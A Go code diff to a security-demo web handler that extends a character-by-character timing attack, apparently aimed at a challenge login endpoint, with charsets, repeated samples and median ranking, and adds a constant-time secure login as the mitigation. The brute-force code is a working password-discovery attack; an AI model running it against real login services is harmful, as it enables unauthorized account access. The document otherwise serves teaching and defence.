@@ -2,21 +2,49 @@ package handlers
 
 import (
 	"bytes"
+	"crypto/sha256"
+	"crypto/subtle"
 	"encoding/json"
 	"fmt"
 	"net/http"
+	"os"
+	"sort"
 	"strings"
 	"time"
 
 	"github.com/gin-gonic/gin"
 )
 
+const (
+	// Login endpoint targeted by the timing attack demos
+	defaultTimingAttackLoginURL = "https://api.karenai.click/swechallenge/login"
+	// Characters appended to the base password when none are requested
+	defaultTimingAttackCharset = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
+	// Largest accepted number of timing samples per candidate
+	maxTimingSamples = 10
+	// Pause between attempts when inter_attempt_delay_ms is not given
+	defaultInterAttemptDelayMs = 20
+	// Largest accepted inter_attempt_delay_ms
+	maxInterAttemptDelayMs = 1000
+	// Every secure login answer takes at least this long, whether the password matched or not
+	defaultSecureLoginDuration = 100 * time.Millisecond
+)
+
 // SecurityHandler handles security-related demonstration endpoints
-type SecurityHandler struct{}
+type SecurityHandler struct {
+	loginURL            string        // External login endpoint attacked by the demos
+	secret              []byte        // Password accepted by SecureLogin, empty disables it
+	secureLoginDuration time.Duration // Fixed response time of SecureLogin
+}
 
-// NewSecurityHandler creates a new instance of SecurityHandler
+// NewSecurityHandler creates a new instance of SecurityHandler.
+// The secure login password is read from SECURE_LOGIN_PASSWORD, without it the secure login answers 503.
 func NewSecurityHandler() *SecurityHandler {
-	return &SecurityHandler{}
+	return &SecurityHandler{
+		loginURL:            defaultTimingAttackLoginURL,
+		secret:              []byte(os.Getenv("SECURE_LOGIN_PASSWORD")),
+		secureLoginDuration: defaultSecureLoginDuration,
+	}
 }
 
 // TimingAttackRequest represents the timing attack request payload
@@ -91,7 +119,7 @@ func (h *SecurityHandler) performTimingAttack(username, password string) TimingA
 
 	// Make POST request to external API
 	resp, err := http.Post(
-		"https://api.karenai.click/swechallenge/login",
+		h.loginURL,
 		"application/json",
 		bytes.NewBuffer(jsonData),
 	)
@@ -130,29 +158,62 @@ type PasswordOnlyRequest struct {
 	Password string `json:"password" binding:"required" example:"intento_de_contraseña"`
 }
 
+// BulkTimingAttackRequest represents the character-by-character timing attack payload
+type BulkTimingAttackRequest struct {
+	Password            string `json:"password" binding:"required" example:"intento_de_contraseña"`
+	Charset             string `json:"charset,omitempty" example:"abc123!@#"`
+	InterAttemptDelayMs *int   `json:"inter_attempt_delay_ms,omitempty" example:"20"`
+	Samples             int    `json:"samples,omitempty" example:"3"`
+}
+
 // BulkTimingAttack performs character-by-character timing attack exploitation
 // @Summary Character-by-Character Timing Attack
-// @Description Exploits timing attack vulnerability by testing individual characters and combinations, measuring response times to discover password character by character
+// @Description Exploits timing attack vulnerability by testing individual characters and combinations, measuring response times to discover password character by character. charset defaults to A-Za-z0-9 and may contain symbols or non-ASCII characters; inter_attempt_delay_ms (0-1000, default 20) sets the pause between attempts. samples (1-10, default 1) measures each candidate several times and ranks candidates by their median server duration.
 // @Tags security-demo
 // @Accept json
 // @Produce json
-// @Param request body PasswordOnlyRequest true "Base password for character-by-character timing attack"
+// @Param request body BulkTimingAttackRequest true "Base password for character-by-character timing attack"
 // @Success 200 {object} map[string]interface{} "Character-by-character timing attack results"
 // @Failure 400 {object} map[string]string "Bad request"
 // @Router /security/bulk-timing-attack [post]
 func (h *SecurityHandler) BulkTimingAttack(c *gin.Context) {
-	var req PasswordOnlyRequest
+	var req BulkTimingAttackRequest
 	if err := c.ShouldBindJSON(&req); err != nil {
 		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
 		return
 	}
+
+	charset := req.Charset
+	if charset == "" {
+		charset = defaultTimingAttackCharset
+	}
+	delayMs := defaultInterAttemptDelayMs
+	if req.InterAttemptDelayMs != nil {
+		delayMs = *req.InterAttemptDelayMs
+		if delayMs < 0 || delayMs > maxInterAttemptDelayMs {
+			c.JSON(http.StatusBadRequest, gin.H{
+				"error": fmt.Sprintf("Invalid inter_attempt_delay_ms. Must be between 0 and %d", maxInterAttemptDelayMs),
+			})
+			return
+		}
+	}
+	samples := req.Samples
+	if samples == 0 {
+		samples = 1
+	}
+	if samples < 1 || samples > maxTimingSamples {
+		c.JSON(http.StatusBadRequest, gin.H{
+			"error": fmt.Sprintf("Invalid samples. Must be between 1 and %d", maxTimingSamples),
+		})
+		return
+	}
 	
 	// Remove all whitespaces from password
 	cleanPassword := strings.ReplaceAll(req.Password, " ", "")
 	fmt.Printf("Received BulkTimingAttack request: %+v (cleaned: %+v)\n", req.Password, cleanPassword)
 
 	// Perform character-by-character timing attack
-	results := h.performCharacterTimingAttack(cleanPassword)
+	results := h.performCharacterTimingAttack(cleanPassword, charset, time.Duration(delayMs)*time.Millisecond, samples)
 
 	c.JSON(http.StatusOK, gin.H{
 		"message":             "Character-by-character timing attack completed",
@@ -162,7 +223,10 @@ func (h *SecurityHandler) BulkTimingAttack(c *gin.Context) {
 		"character_results":   results["character_results"],
 		"timing_analysis":     results["timing_analysis"],
 		"discovered_patterns": results["discovered_patterns"],
-		"exploitation_method": "Character-by-character timing analysis with uppercase, lowercase, and numbers",
+		"charset":             charset,
+		"samples":             samples,
+		"best_password":       results["best_password"],
+		"exploitation_method": "Character-by-character timing analysis over the requested charset",
 	})
 }
 
@@ -172,8 +236,9 @@ type ServerTimingResponse struct {
 	Message  string `json:"message"`
 }
 
-// performPasswordOnlyTimingAttack executes timing attack with password-only payload
-func (h *SecurityHandler) performPasswordOnlyTimingAttack(password string) map[string]interface{} {
+// performPasswordOnlyTimingAttack executes timing attack with password-only payload.
+// The password is sent samples times and the median timings are reported to dampen network jitter.
+func (h *SecurityHandler) performPasswordOnlyTimingAttack(password string, samples int) map[string]interface{} {
 	// Prepare request payload with only password field
 	payload := map[string]string{
 		"password": password,
@@ -191,57 +256,113 @@ func (h *SecurityHandler) performPasswordOnlyTimingAttack(password string) map[s
 		}
 	}
 
-	// Record start time for precise timing measurement
-	startTime := time.Now()
-
-	// Make POST request to external API with timing parameters
-	resp, err := http.Post(
-		"https://api.karenai.click/swechallenge/login?timing=true&level=easy",
-		"application/json",
-		bytes.NewBuffer(jsonData),
-	)
+	var responseTimes, serverDurations []int64
+	var statusCode int
+	var responseStr string
+	var serverTiming ServerTimingResponse
 
-	// Calculate client-side response time
-	responseTime := time.Since(startTime)
+	for i := 0; i < samples; i++ {
+		// Record start time for precise timing measurement
+		startTime := time.Now()
+
+		// Make POST request to external API with timing parameters
+		resp, err := http.Post(
+			h.loginURL+"?timing=true&level=easy",
+			"application/json",
+			bytes.NewBuffer(jsonData),
+		)
+
+		// Calculate client-side response time
+		responseTime := time.Since(startTime)
+
+		if err != nil {
+			return map[string]interface{}{
+				"password":         password,
+				"success":          false,
+				"error":            fmt.Sprintf("Request failed: %v", err),
+				"response_time_ms": responseTime.Milliseconds(),
+				"server_duration":  0,
+			}
+		}
 
-	if err != nil {
-		return map[string]interface{}{
-			"password":         password,
-			"success":          false,
-			"error":            fmt.Sprintf("Request failed: %v", err),
-			"response_time_ms": responseTime.Milliseconds(),
-			"server_duration":  0,
+		// Read and parse response body
+		var responseBody bytes.Buffer
+		responseBody.ReadFrom(resp.Body)
+		resp.Body.Close()
+		responseStr = responseBody.String()
+		statusCode = resp.StatusCode
+
+		// Parse server timing response
+		serverTiming = ServerTimingResponse{}
+		serverDuration := int64(0)
+		if json.Unmarshal([]byte(responseStr), &serverTiming) == nil {
+			serverDuration = serverTiming.Duration
 		}
+
+		responseTimes = append(responseTimes, responseTime.Milliseconds())
+		serverDurations = append(serverDurations, serverDuration)
 	}
-	defer resp.Body.Close()
 
-	// Read and parse response body
-	var responseBody bytes.Buffer
-	responseBody.ReadFrom(resp.Body)
-	responseStr := responseBody.String()
+	return map[string]interface{}{
+		"password":                password,
+		"success":                 statusCode == http.StatusOK,
+		"status_code":             statusCode,
+		"response_time_ms":        medianInt64(responseTimes),
+		"server_duration":         medianInt64(serverDurations),
+		"response_time_samples":   responseTimes,
+		"server_duration_samples": serverDurations,
+		"response_body":           responseStr,
+		"server_message":          serverTiming.Message,
+	}
+}
 
-	// Parse server timing response
-	var serverTiming ServerTimingResponse
-	serverDuration := int64(0)
-	if json.Unmarshal([]byte(responseStr), &serverTiming) == nil {
-		serverDuration = serverTiming.Duration
+// medianInt64 returns the median of values, averaging the two middle values for even lengths.
+func medianInt64(values []int64) int64 {
+	if len(values) == 0 {
+		return 0
 	}
+	sorted := append([]int64(nil), values...)
+	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
 
-	return map[string]interface{}{
-		"password":         password,
-		"success":          resp.StatusCode == http.StatusOK,
-		"status_code":      resp.StatusCode,
-		"response_time_ms": responseTime.Milliseconds(),
-		"server_duration":  serverDuration,
-		"response_body":    responseStr,
-		"server_message":   serverTiming.Message,
+	mid := len(sorted) / 2
+	if len(sorted)%2 == 0 {
+		return (sorted[mid-1] + sorted[mid]) / 2
 	}
+	return sorted[mid]
 }
 
-// performCharacterTimingAttack performs timing attack on base password + all charset characters
-func (h *SecurityHandler) performCharacterTimingAttack(basePassword string) map[string]interface{} {
-	// Character sets: uppercase, lowercase, numbers
-	charset := "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
+// rankByServerDuration returns the passwords with the highest median server duration.
+// Results carrying server_duration_samples are ranked by their median so a single outlier can't win.
+func rankByServerDuration(results []map[string]interface{}) ([]string, int64) {
+	maxServerDuration := int64(0)
+	var bestPasswords []string
+	durations := make([]int64, len(results))
+	valid := make([]bool, len(results))
+
+	// First pass: find maximum median server duration
+	for i, result := range results {
+		if samples, ok := result["server_duration_samples"].([]int64); ok && len(samples) > 0 {
+			durations[i], valid[i] = medianInt64(samples), true
+		} else if serverDur, ok := result["server_duration"].(int64); ok {
+			durations[i], valid[i] = serverDur, true
+		}
+		if valid[i] && durations[i] > maxServerDuration {
+			maxServerDuration = durations[i]
+		}
+	}
+
+	// Second pass: collect all passwords with maximum duration
+	for i, result := range results {
+		if valid[i] && durations[i] == maxServerDuration {
+			bestPasswords = append(bestPasswords, result["password"].(string))
+		}
+	}
+	return bestPasswords, maxServerDuration
+}
+
+// performCharacterTimingAttack performs timing attack on base password + all charset characters,
+// measuring each candidate samples times and pausing for delay between attempts
+func (h *SecurityHandler) performCharacterTimingAttack(basePassword, charset string, delay time.Duration, samples int) map[string]interface{} {
 	var allResults []map[string]interface{}
 	var discoveredPatterns []string
 
@@ -251,19 +372,19 @@ func (h *SecurityHandler) performCharacterTimingAttack(basePassword string) map[
 		discoveredPatterns = append(discoveredPatterns, "NOTE: Client response times include network latency and are unreliable")
 		discoveredPatterns = append(discoveredPatterns, "Focus on 'server duration' - this is the actual server-side processing time")
 		for _, char := range charset {
-			result := h.performPasswordOnlyTimingAttack(string(char))
+			result := h.performPasswordOnlyTimingAttack(string(char), samples)
 			allResults = append(allResults, result)
 			discoveredPatterns = append(discoveredPatterns, 
 				fmt.Sprintf("Testing '%s' -> %dms (server: %dms)", 
 					string(char), result["response_time_ms"], result["server_duration"]))
-			time.Sleep(20 * time.Millisecond)
+			time.Sleep(delay)
 		}
 	} else {
 		discoveredPatterns = append(discoveredPatterns, "NOTE: Client response times include network latency and are unreliable")
 		discoveredPatterns = append(discoveredPatterns, "Focus on 'server duration' - this is the actual server-side processing time")
 		
 		// Test base password first
-		baseResult := h.performPasswordOnlyTimingAttack(basePassword)
+		baseResult := h.performPasswordOnlyTimingAttack(basePassword, samples)
 		allResults = append(allResults, baseResult)
 		discoveredPatterns = append(discoveredPatterns, 
 			fmt.Sprintf("Testing '%s' -> %dms (server: %dms)", 
@@ -272,32 +393,17 @@ func (h *SecurityHandler) performCharacterTimingAttack(basePassword string) map[
 		// Test base password + each character
 		for _, char := range charset {
 			testPassword := basePassword + string(char)
-			result := h.performPasswordOnlyTimingAttack(testPassword)
+			result := h.performPasswordOnlyTimingAttack(testPassword, samples)
 			allResults = append(allResults, result)
 			discoveredPatterns = append(discoveredPatterns, 
 				fmt.Sprintf("Testing '%s' -> %dms (server: %dms)", 
 					testPassword, result["response_time_ms"], result["server_duration"]))
-			time.Sleep(20 * time.Millisecond)
+			time.Sleep(delay)
 		}
 	}
 
-	// Find all passwords with maximum server duration
-	maxServerDuration := int64(0)
-	var bestPasswords []string
-	
-	// First pass: find maximum server duration
-	for _, result := range allResults {
-		if serverDur, ok := result["server_duration"].(int64); ok && serverDur > maxServerDuration {
-			maxServerDuration = serverDur
-		}
-	}
-	
-	// Second pass: collect all passwords with maximum duration
-	for _, result := range allResults {
-		if serverDur, ok := result["server_duration"].(int64); ok && serverDur == maxServerDuration {
-			bestPasswords = append(bestPasswords, result["password"].(string))
-		}
-	}
+	// Find all passwords with maximum median server duration
+	bestPasswords, maxServerDuration := rankByServerDuration(allResults)
 
 	if len(bestPasswords) > 0 {
 		discoveredPatterns = append(discoveredPatterns, "")
@@ -395,6 +501,58 @@ func (h *SecurityHandler) analyzeCharacterTimings(results []map[string]interface
 	}
 }
 
+// SecureLogin checks a password in constant time, the mitigated counterpart of the timing attack demo
+// @Summary Constant-Time Secure Login
+// @Description Compares the submitted password against the configured secret with crypto/subtle.ConstantTimeCompare and always answers after the same fixed delay, so response times reveal nothing about how much of the password matched. Answers 503 when SECURE_LOGIN_PASSWORD is not set.
+// @Tags security-demo
+// @Accept json
+// @Produce json
+// @Param request body PasswordOnlyRequest true "Password to check"
+// @Success 200 {object} map[string]interface{} "Password accepted"
+// @Failure 400 {object} map[string]string "Bad request"
+// @Failure 401 {object} map[string]string "Invalid password"
+// @Failure 503 {object} map[string]string "SECURE_LOGIN_PASSWORD is not set"
+// @Router /security/secure-login [post]
+func (h *SecurityHandler) SecureLogin(c *gin.Context) {
+	startTime := time.Now()
+
+	// There is no fallback password, anyone could read it in the source
+	if len(h.secret) == 0 {
+		c.JSON(http.StatusServiceUnavailable, gin.H{"error": "Secure login is disabled, SECURE_LOGIN_PASSWORD is not set"})
+		return
+	}
+
+	var req PasswordOnlyRequest
+	if err := c.ShouldBindJSON(&req); err != nil {
+		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
+		return
+	}
+
+	match := h.checkPassword(req.Password)
+
+	// Pad the response to a fixed duration so any remaining timing difference is hidden
+	if remaining := h.secureLoginDuration - time.Since(startTime); remaining > 0 {
+		time.Sleep(remaining)
+	}
+
+	if !match {
+		c.JSON(http.StatusUnauthorized, gin.H{"error": "Invalid password"})
+		return
+	}
+	c.JSON(http.StatusOK, gin.H{
+		"success": true,
+		"message": "Login successful",
+	})
+}
+
+// checkPassword compares password against the configured secret in constant time.
+// Both values are hashed first so the comparison does not leak the secret's length either.
+func (h *SecurityHandler) checkPassword(password string) bool {
+	submitted := sha256.Sum256([]byte(password))
+	expected := sha256.Sum256(h.secret)
+	return subtle.ConstantTimeCompare(submitted[:], expected[:]) == 1
+}
+
 // GetTimingAttackInfo provides information about timing attacks
 // @Summary Timing Attack Information
 // @Description Provides educational information about timing attacks and how they work
@@ -413,7 +571,6 @@ func (h *SecurityHandler) GetTimingAttackInfo(c *gin.Context) {
 			"vulnerable": "/api/security/timing-attack-login",
 			"secure":     "/api/security/secure-login",
 		},
-		"test_password": "super_secret_password_2024",
 		"example_attack": gin.H{
 			"step1": "Try passwords starting with 'a', 'b', 'c'... and measure response times",
 			"step2": "The password starting with 's' will take slightly longer (correct first character)",